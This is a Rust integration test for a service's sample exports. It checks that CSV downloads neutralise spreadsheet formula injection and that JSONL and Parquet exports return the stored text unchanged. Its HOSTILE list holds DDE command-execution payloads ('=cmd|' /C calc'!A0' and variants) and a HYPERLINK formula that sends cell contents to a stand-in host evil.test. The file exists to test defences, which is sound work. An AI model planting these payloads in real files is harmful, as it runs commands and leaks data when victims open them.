//! Files of samples with the worst that a prompt can hold, read again by what people read them with.
#![allow(clippy::expect_used)]

use serde_json::Value;

use crate::peers::{peer_python, peers_wanted};
use crate::support::api::{answering_upstream, ask, await_answer, get_with};
use crate::support::tap::Setup;

/// What a spreadsheet would run or split, if it were let; whether it has to be guarded.
const HOSTILE: &[(&str, bool)] = &[
    ("=cmd|' /C calc'!A0", true),
    ("=HYPERLINK(\"http://evil.test?leak=\"&A1,\"click\")", true),
    ("@SUM(1+1)*cmd|' /C calc'!A0", true),
    ("+1+cmd|' /C calc'!A0", true),
    ("-2+3+cmd|' /C calc'!A0", true),
    ("  =1+1", true),
    ("\u{feff}=1+1", true),
    ("\t=1+1", true),
    ("\r=1+1", true),
    ("\n=1+1", true),
    ("\r\n@evil", true),
    ("|calc", true),
    ("％0A=1", false),
    ("＝1+1", true),
    ("＠SUM(A1)", true),
    ("plain, then\r\n=1+1,\"=2\"", false),
    ("say \"\"\"hi\"\"\"; =1;=2", false),
    ("\"=1+1\"", false),
    ("'=1+1", false),
    ("a\tb\rc\nd,e;f", false),
    ("-12.5", false),
    ("trailing space ", false),
    ("\u{202e}drow\u{2028}line", false),
    ("sep=;", false),
];

/// Promise (security): what comes out of a download is what was asked, and no spreadsheet runs it.
#[test]
fn what_was_exported_is_read_again_as_it_was_and_no_formula_stands_in_a_cell() {
    if !peers_wanted() {
        return;
    }
    let upstream = answering_upstream();
    let redacting_nothing = "sample: {rate: 1}\nredact: {mode: off}";
    let flowtap = Setup::before(upstream.port).top(redacting_nothing).start();
    HOSTILE.iter().for_each(|(question, _)| ask(&flowtap, question));
    await_answer(flowtap.admin, "/samples?limit=500", |answer| {
        answer["samples"].as_array().is_some_and(|samples| samples.len() == HOSTILE.len())
    });
    let mut reader = peer_python("tables");
    reader.arg("tests/peers/read_downloads.py");
    for ending in ["csv", "jsonl", "parquet"] {
        let file = get_with(flowtap.admin, &format!("/samples.{ending}?order=asc"), "");
        assert_eq!(file.status(), 200, "{ending}");
        let kept = format!("attachment; filename=\"samples.{ending}\"");
        assert_eq!(file.header("content-disposition"), Some(kept.as_str()));
        assert_eq!(file.header("x-content-type-options"), Some("nosniff"));
        let path = flowtap.folder().join(format!("samples.{ending}"));
        std::fs::write(&path, file.body()).expect("written");
        reader.arg(path);
    }
    let read = reader.output().expect("python");
    assert!(read.status.success(), "{}", String::from_utf8_lossy(&read.stderr));
    let read: Value = serde_json::from_slice(&read.stdout).expect("JSON");
    assert_eq!(read["columns_are_whole"], true);
    let texts = |from: &str| -> Vec<String> {
        let texts = read[from].as_array().expect("texts").iter();
        texts.map(|text| text.as_str().expect("a text").to_owned()).collect()
    };
    let asked: Vec<_> = HOSTILE.iter().map(|(question, _)| (*question).to_owned()).collect();
    assert_eq!((texts("jsonl"), texts("parquet")), (asked.clone(), asked));
    let guarded = |(question, guarded): &(&str, bool)| match guarded {
        true => format!("'{question}"),
        false => (*question).to_owned(),
    };
    let guarded: Vec<_> = HOSTILE.iter().map(guarded).collect();
    assert_eq!((texts("csv"), texts("pandas")), (guarded.clone(), guarded));
}
